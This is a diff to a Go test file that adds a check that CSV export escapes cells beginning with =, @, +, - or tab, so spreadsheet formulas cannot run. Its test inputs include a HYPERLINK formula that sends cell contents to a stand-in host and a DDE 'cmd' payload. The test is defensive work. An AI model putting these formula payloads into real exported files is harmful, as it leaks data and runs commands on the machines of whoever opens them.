@@ -1,6 +1,7 @@
 package output
 
 import (
+	"encoding/csv"
 	"errors"
 	"reflect"
 	"strings"
@@ -114,6 +115,28 @@ func TestAListInACellIsTheJSONOfOtherFormats(t *testing.T) {
 	one := row{Areas: []person{{Name: "Den & <Bar>"}}}
 	if got, want := print(t, Format{CSV: true, Fields: []string{"areas.name"}}, one), "areas.name\n\"[{\"\"name\"\":\"\"Den & <Bar>\"\"}]\"\n"; got != want {
 		t.Errorf("%q, want %q", got, want)
+	}
+}
+
+// The name of a client could otherwise send the rest of the sheet to someone else.
+func TestATextInCSVIsNoFormula(t *testing.T) {
+	for text, want := range map[string]string{
+		`=HYPERLINK("https://a.example?"&A1)`: `'=HYPERLINK("https://a.example?"&A1)`, "@SUM(A1)": "'@SUM(A1)", "-1+cmd|'/C calc'!A0": "'-1+cmd|'/C calc'!A0",
+		"+A1": "'+A1", "\t=A1": "'\t=A1", "- rack": "'- rack",
+		"-12.50": "-12.50", "+1 (512) 555-0142": "+1 (512) 555-0142", "1=2": "1=2",
+	} {
+		var b strings.Builder
+		f := Format{CSV: true}
+		if err := f.Write(&b, []hidden{{text}}); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("%q: %v, %q", text, err, b.String())
+		}
+		if rows[1][0] != want {
+			t.Errorf("%q is written as %q, want %q", text, rows[1][0], want)
+		}
 	}
 }
 
